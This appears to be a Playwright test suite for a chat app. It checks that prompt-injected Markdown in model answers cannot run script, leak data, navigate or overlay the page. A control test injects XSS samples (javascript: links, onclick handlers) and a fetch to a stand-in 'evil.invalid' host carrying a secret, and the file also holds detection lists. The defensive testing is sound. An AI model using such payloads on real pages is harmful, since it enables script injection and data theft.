import type { Frame, Page } from "@playwright/test";
import { ATTACKS, type Attack } from "@/components/chat/thread/testing/attacks";
import { facts } from "./facts";
import { expect, test } from "./fixtures";
import { signInAs } from "./people";
import { answered, ask, lastAnswer } from "./talking";

/**
 * What a model was talked into writing, in a browser: while it is being written, when it is whole, and after a reload.
 * Nothing of it runs, is fetched, leads away or lies over the page.
 */
const KINDS = new Set(ATTACKS.map(kindOf).filter((kind) => kind !== "diagram"));
const BETWEEN = "and then";
/** What Chromium says of a handler that a policy kept from running. */
const BLOCKED = /^Executing inline event handler violates .* The action has been blocked\.$/s;

for (const kind of KINDS) {
  test(`an answer full of attacks by ${kind} is only read`, async ({ page, context, person }) => {
    await signInAs(context, person.email);
    await readAttacks(page, kind);
  });
}

test("an answer full of attacks by diagram is only read", async ({ browser, person }) => {
  // Not the watched browser: the library tries a handler out in its frame, whose policy is there to say no, loudly.
  const context = await browser.newContext({ baseURL: facts.appUrl });
  await signInAs(context, person.email);
  const page = await context.newPage();
  const complaints: string[] = [];
  page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
  await readAttacks(page, "diagram");
  expect(page.frames().length, "diagrams that were drawn").toBeGreaterThan(1);
  expect(complaints.filter((complaint) => !BLOCKED.test(complaint))).toEqual([]);
  await context.close();
});

test("an attack that got through would be seen", async ({ browser, person }) => {
  const context = await browser.newContext({ baseURL: facts.appUrl });
  await signInAs(context, person.email);
  const page = await context.newPage();
  await listen(page);
  await page.goto("/chat");
  await ask(page, "Good morning [sandbox:fast]");
  await answered(page);
  await lastAnswer(page).evaluate((article) => {
    article.insertAdjacentHTML(
      "beforeend",
      '<a href="javascript:alert(1)" onclick="alert(1)" style="position:fixed">x</a>',
    );
    article.insertAdjacentHTML("beforeend", '<iframe srcdoc="x"></iframe><form action="javascript:alert(1)"></form>');
    void fetch("https://evil.invalid/?leak=secret").catch(() => {});
    window.alert("I ran");
  });
  await expect.poll(() => harmIn(page)).toHaveLength(9);
  const seen = ["a script ran", "blocked connect-src https://evil.invalid/?leak=secret"];
  expect(await harmIn(page)).toEqual(expect.arrayContaining(seen));
  await context.close();
});

async function readAttacks(page: Page, kind: string): Promise<void> {
  const attacks = ATTACKS.filter((attack) => kindOf(attack) === kind);
  const heard = await listen(page);
  await page.goto("/chat");
  await ask(page, `${asPrompt(attacks)} [[500 tokens/s]]`);
  const answer = await answered(page);
  await expect(answer).toContainText(BETWEEN);
  await settled(page);
  expect(await harmIn(page), "after it was written").toEqual([]);
  await page.reload();
  await expect(lastAnswer(page)).toBeVisible();
  await settled(page);
  expect(await harmIn(page), "after a reload").toEqual([]);
  await clickThrough(page);
  expect(heard).toEqual([]);
  expect(await harmIn(page), "after every click").toEqual([]);
  expect(page.url()).toContain(`${facts.appUrl}/chat/`);
}

/** What no answer may bring about; each is noted as it happens, for as long as the page lives. */
async function listen(page: Page): Promise<string[]> {
  const heard: string[] = [];
  const own = new URL(facts.appUrl).host;
  page.on("request", (request) => {
    const { protocol, host } = new URL(request.url());
    if (!["data:", "blob:", "about:"].includes(protocol) && host !== own) heard.push(`request ${request.url()}`);
  });
  page.on("framenavigated", (frame) => {
    const url = frame.url();
    if (!url.startsWith(facts.appUrl) && !url.startsWith("about:")) heard.push(`navigation ${url}`);
  });
  page.on("download", (download) => heard.push(`download ${download.url()}`));
  page.on("popup", (popup) => heard.push(`window ${popup.url()}`));
  await page.addInitScript(watchAnswers);
  return heard;
}

declare global {
  interface Window {
    harm: Set<string>;
    /** Set when an attack ran, in whichever frame. */
    hasRun?: boolean;
  }
}

/** Runs in the page: looks at every element of an answer at the moment it comes, not only when all is done. */
function watchAnswers(): void {
  window.alert = () => {
    window.hasRun = true;
  };
  if (window !== window.top) return;
  window.harm = new Set();
  const forbidden = "script, object, embed, form, base, meta, link, style, video, audio, img, picture, marquee";
  function look(element: Element): void {
    if (!element.closest("article")) return;
    const { localName: name } = element;
    const isFrame = name === "iframe";
    if (element.matches(forbidden)) window.harm.add(`<${name}>`);
    if (isFrame && element.getAttribute("sandbox") !== "allow-scripts") window.harm.add("a frame that may do more");
    if (["fixed", "sticky"].includes(getComputedStyle(element).position)) window.harm.add(`${name} covers the page`);
    for (const attribute of element.attributes) {
      if (isHarm(attribute)) window.harm.add(`${name} ${attribute.name}=${attribute.value}`);
    }
  }
  function isHarm({ name, value }: Attr): boolean {
    if (name.startsWith("on") || /^(formaction|ping|background|srcset)$/.test(name)) return true;
    return /^(href|xlink:href|src|action)$/.test(name) && !/^(https?:\/\/|mailto:|#)/.test(value);
  }
  new MutationObserver((records) => {
    for (const { target, addedNodes } of records) {
      for (const node of [target, ...addedNodes]) {
        if (!(node instanceof Element)) continue;
        look(node);
        for (const inner of node.querySelectorAll("*")) look(inner);
      }
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
  document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
    // zod asks, once and before any answer, whether it may compile its schemas. It may not.
    if (blockedURI !== "eval") window.harm.add(`blocked ${violatedDirective} ${blockedURI}`);
  });
}

/** A frame that is taken away meanwhile, because its diagram could not be drawn, has run nothing here. */
async function hasRunIn(frame: Frame): Promise<boolean> {
  try {
    return await frame.evaluate(() => window.hasRun === true);
  } catch (error) {
    if (frame.isDetached()) return false;
    throw error;
  }
}

async function harmIn(page: Page): Promise<string[]> {
  const ran = await Promise.all(page.frames().map(hasRunIn));
  const harm = await page.evaluate(() => [...window.harm]);
  return ran.includes(true) ? ["a script ran", ...harm] : harm;
}

/** The libraries for formulas and diagrams have come, and the diagrams are drawn or given up. */
async function settled(page: Page): Promise<void> {
  await page.waitForLoadState("networkidle");
  // What can not be drawn is given up after fifteen seconds.
  await expect(page.locator("figure[aria-busy=true]")).toHaveCount(0);
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
}

/** Every link and every part of every drawing; what a link leads to opens elsewhere, and only when it is opened. */
async function clickThrough(page: Page): Promise<void> {
  for (const link of await lastAnswer(page).locator("a[href]").all()) {
    const [href = "", target, rel] = await Promise.all(
      ["href", "target", "rel"].map(async (name) => (await link.getAttribute(name)) ?? ""),
    );
    if (href.startsWith("#")) await link.click();
    else expect([target, rel], href).toEqual(["_blank", "noopener noreferrer nofollow"]);
  }
  for (const frame of page.frames().filter((candidate) => candidate !== page.mainFrame())) {
    for (const part of await frame.locator("svg .node, svg a").all()) await part.click({ timeout: 2_000, force: true });
  }
}

function kindOf({ name }: Attack): string {
  return name.replace(/ \d+$/, "");
}

function asPrompt(attacks: readonly Attack[]): string {
  const markdown = attacks.map((attack) => attack.markdown).join(`\n\n${BETWEEN}\n\n`);
  return `Write this Markdown as it is (base64): ${Buffer.from(markdown).toString("base64")}`;
}
